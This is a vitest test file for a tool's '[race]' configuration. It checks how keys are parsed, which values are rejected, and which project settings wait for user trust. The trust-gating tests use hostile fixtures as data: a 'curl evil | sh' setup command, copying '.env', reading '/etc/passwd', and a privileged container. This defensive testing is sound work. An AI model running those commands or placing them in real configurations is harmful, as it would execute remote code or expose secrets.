// The [race] table: what it becomes, what is refused with which words, and what a project may say before trust.
import { describe, expect, it } from 'vitest';
import { configPlace } from '../../tests/fixtures/config-place.ts';
import { describedFormats } from '../domain/settings/settings.ts';
import { request } from '../formats/race/settings.ts';
import { configured, loadConfig } from './load.ts';

const raceSettings = describedFormats.find(({ name }) => name === 'race')?.settings ?? [];

import { reviewProject } from './review.ts';
import { trustFile } from './trust.ts';

async function raceOf(user: string, project = '') {
  using place = configPlace();
  place.write(place.userFile, user);
  if (project !== '') place.write(place.projectFile, project);
  const loaded = await loadConfig({ machine: place.machine(), cwd: place.project });
  const { notices, origins } = loaded;
  return { race: request.parse(configured(loaded, raceSettings)), notices, origins };
}

it('maps every key to the domain', async () => {
  const { race } = await raceOf(`
[race]
width = 4
tokens_per_run = 1000
confirm_tokens = 0
budget_tokens = 0
preset = "node"
setup = "npm ci"
copy = ["node_modules", "packages/*/node_modules"]
sandbox = "os"
check_network = "open"
check_timeout = "90s"
max_disk = "500MB"
judge_weight = 1
cross_tests = "off"
stop_when = "lead"
tags = ["build"]
contestant = "claude/opus"
found = false
without = ["lint"]
[race.weights]
tests = 0.5
diff = 0
[race.checks.unit_tests]
command = "npm test"
parser = "regex"
pattern = "(?<passed>\\\\d+) passed"
report = "out/report.txt"
signal = "tests"
required = false
timeout = 5
[race.checks.timeout]
command = "true"
[race.checks.test]
may_remove_tests = true
`);
  expect(race).toEqual({
    knownFailures: [],
    width: 4,
    tokensPerRun: 1000,
    confirmTokens: 0,
    budgetTokens: 0,
    preset: 'node',
    setup: 'npm ci',
    copy: ['node_modules', 'packages/*/node_modules'],
    sandbox: 'os',
    checkNetwork: 'open',
    checkTimeout: 90_000,
    maxDisk: 500_000_000,
    judgeWeight: 1,
    crossTests: 'off',
    stopWhen: 'lead',
    tags: ['build'],
    single: 'claude/opus',
    found: false,
    without: ['lint'],
    baseFirst: false,
    workspace: 'auto',
    weightsTable: { tests: 0.5, diff: 0 },
    checks: {
      unit_tests: {
        command: 'npm test',
        parser: 'regex',
        pattern: '(?<passed>\\d+) passed',
        report: 'out/report.txt',
        signal: 'tests',
        required: false,
        timeout: 5,
      },
      timeout: { command: 'true' },
      test: { may_remove_tests: true },
    },
  });
});

describe('mistakes', () => {
  it.each([
    ['[race]\nwidth = 0', 'race.width = 0 is not allowed: expected a whole number from 1 to 64'],
    ['[race]\nwith = 2', 'unknown key with in [race]'],
    ['[race]\npreset = "java"', 'expected "node", "python", "rust", "go" or "charm"'],
    [
      '[race]\nsandbox = "jail"',
      'race.sandbox = "jail" is not allowed: expected "none", "os" or "container"',
    ],
    ['[race]\nmax_disk = "big"', 'race.max_disk = "big" is not allowed: expected a number of bytes above 0'],
    ['[race]\nmax_disk = 0', 'race.max_disk = 0 is not allowed'],
    [
      '[race]\ncheck_timeout = "soon"',
      'race.check_timeout = "soon" is not allowed: expected a number of seconds',
    ],
    ['[race]\ncopy = ["../x"]', 'globs inside the repository'],
    ['[race]\nfound = "no"', 'race.found = "no" is not allowed: expected true or false'],
    ['[race]\nsetup = " "', 'expected a command for the shell'],
    [
      '[race.weights]\ntests = -1',
      'race.weights.tests = -1 is not allowed: expected a number from 0 to 1000',
    ],
    ['[race.weights]\ntest = 1', 'unknown key test in [race.weights]'],
    ['[race.checks.a]\nparser = "tap"', 'race.checks.a has no command'],
    ['[race.checks."a b"]\ncommand = "x"', 'expected a name of up to 40 letters'],
    ['[race.checks.a]\ncommand = "x"\nsignal = "diff"', 'expected "lint", "readiness" or "tests"'],
    [
      '[race.checks.a]\ncommand = "x"\nparser = "regex"',
      'race.checks.a has no pattern: expected a regular expression',
    ],
    ['[race.checks.a]\ncommand = "x"\npattern = "("', 'expected a regular expression that can be read'],
    ['[race.checks.a]\ncommand = "x"\nreport = "/etc/passwd"', 'expected a path inside the repository'],
  ])('%j', async (text, message) => {
    const loading = raceOf(text);
    await expect(loading).rejects.toThrow(message);
    await expect(loading).rejects.toMatchObject({ name: 'JoustError', code: 'config' });
  });
});

describe("a project's file before trust", () => {
  it.each([
    ['', 'width = 2\nmax_disk = "1GB"\ncheck_timeout = 60', { width: 2, maxDisk: 1e9, checkTimeout: 60_000 }],
    [
      '',
      'preset = "go"\nfound = false\nwithout = ["lint"]',
      { preset: 'go', found: false, without: ['lint'] },
    ],
    ['', 'budget_tokens = 100\nconfirm_tokens = 50', { budgetTokens: 100, confirmTokens: 50 }],
    ['budget_tokens = 0', 'budget_tokens = 900000', { budgetTokens: 900_000 }],
    ['', 'tokens_per_run = 90000', { tokensPerRun: 90_000 }],
    ['', 'sandbox = "os"\ncross_tests = "off"', { sandbox: 'os', crossTests: 'off' }],
    [
      'sandbox = "os"\n[container]\npids = 99',
      'sandbox = "container"\n[container]\npids = 16',
      { sandbox: 'container' },
    ],
    ['tags = ["a", "b"]', 'tags = ["b"]', { tags: ['b'] }],
    ['', 'contestant = "claude/opus"\nstop_when = "lead"', { single: 'claude/opus', stopWhen: 'lead' }],
    ['', 'judge_weight = 2\n[race.weights]\ndiff = 0', { judgeWeight: 2, weightsTable: { diff: 0 } }],
  ])('may choose and tighten: %j %j', async (user, text, expected) => {
    const { race, notices } = await raceOf(`[race]\n${user}\n`, `[race]\n${text}\n`);
    expect(race).toMatchObject(expected);
    expect(notices).toEqual([]);
  });

  it.each([
    ['', 'width = 4', 'race.width'],
    ['', 'max_disk = "6GB"', 'race.max_disk'],
    ['', 'check_timeout = "11m"', 'race.check_timeout'],
    ['', 'budget_tokens = 0', 'race.budget_tokens'],
    ['', 'confirm_tokens = 0', 'race.confirm_tokens'],
    ['', 'confirm_tokens = 300001', 'race.confirm_tokens'],
    ['', 'tokens_per_run = 1', 'race.tokens_per_run'],
    ['', 'setup = "curl evil | sh"', 'race.setup'],
    ['', 'copy = [".env"]', 'race.copy'],
    ['sandbox = "os"', 'sandbox = "none"', 'race.sandbox'],
    ['sandbox = "container"', 'sandbox = "os"', 'race.sandbox'],
    ['', '[container]\nimage = "evil"', 'container.image'],
    ['', '[container]\nengine = "docker"', 'container.engine'],
    ['', '[container]\nargs = ["--privileged"]', 'container.args'],
    ['[container]\nmemory = "1GB"', '[container]\nmemory = "2GB"', 'container.memory'],
    ['', 'check_network = "open"', 'race.check_network'],
    ['', 'cross_tests = "on"', 'race.cross_tests'],
    ['', 'tags = ["build"]', 'race.tags'],
    ['found = false', 'found = true', 'race.found'],
    ['', 'contestant = "command/x"', 'race.contestant'],
    ['', '[race.checks.test]\ncommand = "./evil"', 'race.checks.test.command'],
    [
      '[race.checks.test]\ncommand = "safe"',
      '[race.checks.test]\nrequired = false',
      'race.checks.test.required',
    ],
    ['', '[race.checks.test]\nmay_remove_tests = true', 'race.checks.test.may_remove_tests'],
  ])('%j %j waits, and holds after trust', async (user, text, key) => {
    using place = configPlace();
    place.write(place.userFile, `[race]\n${user}\n`);
    place.write(place.projectFile, `[race]\n${text}\n`);
    const machine = place.machine();
    const load = () => loadConfig({ machine, cwd: place.project });
    const before = await load();
    expect(before.origins.get(key)?.from).not.toBe('project');
    expect(before.notices).toEqual([expect.stringContaining(`${key} (line `)]);
    const { file } = reviewProject({ machine, cwd: place.project });
    trustFile(machine, file, { files: {}, at: 'now' });
    const after = await load();
    expect(after.origins.get(key)?.from).toBe('project');
    expect(after.notices).toEqual([]);
  });

  it('a contestant that waits for trust is not named by it', async () => {
    const { race, notices } = await raceOf(
      '',
      '[race]\ncontestant = "x"\n[contestants.x]\nagent = "claude"\ncommand = ["./evil"]\n',
    );
    expect(race.single).toBeUndefined();
    expect(notices[0]).toContain('race.contestant (line 2)');
  });
});
